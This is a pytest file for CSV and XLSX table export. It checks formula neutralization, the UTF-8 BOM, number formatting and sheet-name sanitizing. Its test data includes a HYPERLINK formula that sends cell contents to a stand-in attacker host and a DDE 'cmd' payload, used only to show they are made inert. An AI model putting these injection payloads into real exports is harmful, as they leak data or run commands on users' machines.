"""The CSV and XLSX a grid panel exports: formula-looking text made inert, numbers kept numbers,
Chinese headers readable by Excel (BOM), values formatted as the grid shows them."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest

from presentation.export import (
    ExportColumn,
    neutralize_formula,
    safe_sheet_name,
    table_csv_bytes,
    table_xlsx_bytes,
)

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
COLUMNS = (
    ExportColumn("name", "单位名称"),
    ExportColumn("kwh", "用电量 (kWh)", "number", 1),
    ExportColumn("share", "同比", "percent", 1),
    ("day", "日期", "date"),  # a plain tuple works as well
    ("phone", "联系电话", "personal"),
)
RECORDS = [
    {
        "name": HYPERLINK,
        "kwh": 12345.678,
        "share": 0.1234,
        "day": "2026-11-20",
        "phone": "+86 138****0000",
        "_row_id": "0",
    },
    {"name": "甲市", "kwh": -3, "share": -0.05, "day": "2026-11-19", "phone": "-", "_drill": "org:2"},
    {"name": "@SUM(A1:A9)", "kwh": None, "share": None, "day": None, "phone": None},
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138 0000 0000", "'+86 138 0000 0000"),
        ("-3", "'-3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=x", "'\t=x"),
        ("\r=x", "'\r=x"),
        (HYPERLINK, "'" + HYPERLINK),
        ("甲市机关事务中心", "甲市机关事务中心"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (1.5, 1.5),
        (0, 0),
        (None, None),
    ],
)
def test_neutralize_formula(value, expected):
    result = neutralize_formula(value)
    assert result == expected
    assert type(result) is type(expected)


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM, so Excel reads the Chinese text"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_has_bom_title_lines_chinese_header_and_grid_formatting():
    rows = _csv_rows(
        table_csv_bytes(RECORDS, COLUMNS, lang="zh", title_lines=("能耗监测 · 排名", "=cmd|' /C calc'!A0"))
    )
    assert rows[0] == ["能耗监测 · 排名"]
    assert rows[1] == ["'=cmd|' /C calc'!A0"]  # title lines are neutralized too
    assert rows[2] == []
    assert rows[3] == ["单位名称", "用电量 (kWh)", "同比", "日期", "联系电话"]
    assert rows[4] == ["'" + HYPERLINK, "12345.7", "12.3%", "2026-11-20", "'+86 138****0000"]
    # a negative number stays a number; a text "-" is neutralized
    assert rows[5] == ["甲市", "-3.0", "-5.0%", "2026-11-19", "'-"]
    assert rows[6] == ["'@SUM(A1:A9)", "", "", "", ""]
    assert len(rows) == 7  # only the declared columns; _row_id and _drill never exported


def test_csv_without_title_lines_starts_with_the_header():
    rows = _csv_rows(table_csv_bytes([], [("a", "Name")], lang="en"))
    assert rows == [["Name"]]


def _sheet(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


def test_xlsx_numbers_are_numbers_and_formulas_stay_strings():
    sheet = _sheet(
        table_xlsx_bytes(RECORDS, COLUMNS, lang="zh", title_lines=("能耗监测", "单位：甲市"), sheet_name="排名")
    )
    assert sheet.title == "排名"
    assert sheet["A1"].value == "能耗监测" and sheet["A2"].value == "单位：甲市"
    header = [c.value for c in sheet[4]]
    assert header == ["单位名称", "用电量 (kWh)", "同比", "日期", "联系电话"]
    assert sheet.freeze_panes == "A5"  # the header row stays in view
    first = sheet[5]
    assert first[0].data_type == "s" and first[0].value == HYPERLINK  # a string cell, not a formula
    assert first[0].quotePrefix  # and Excel keeps it text when edited
    assert first[1].data_type == "n" and first[1].value == pytest.approx(12345.678)
    assert first[1].number_format == "#,##0.0"
    assert first[2].value == pytest.approx(0.1234) and first[2].number_format == "0.0%"
    assert first[3].value == dt.datetime(2026, 11, 20) and first[3].number_format == "yyyy-mm-dd"
    assert first[4].data_type == "s" and first[4].value == "+86 138****0000"
    second = sheet[6]
    assert second[1].value == -3 and second[1].data_type == "n"
    third = sheet[7]
    assert third[0].data_type == "s" and third[0].value == "@SUM(A1:A9)"
    assert third[1].value is None
    assert sheet.max_row == 7
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
    assert sheet.column_dimensions["A"].width > 10


def test_xlsx_sheet_name_is_made_safe():
    assert safe_sheet_name("能耗/排名[2026]:*?") == "能耗_排名_2026____"
    assert safe_sheet_name("") == "Sheet1"
    assert len(safe_sheet_name("长" * 40)) == 31
    sheet = _sheet(table_xlsx_bytes([], [("a", "Name")], lang="en", sheet_name="a/b"))
    assert sheet.title == "a_b" and sheet["A1"].value == "Name"
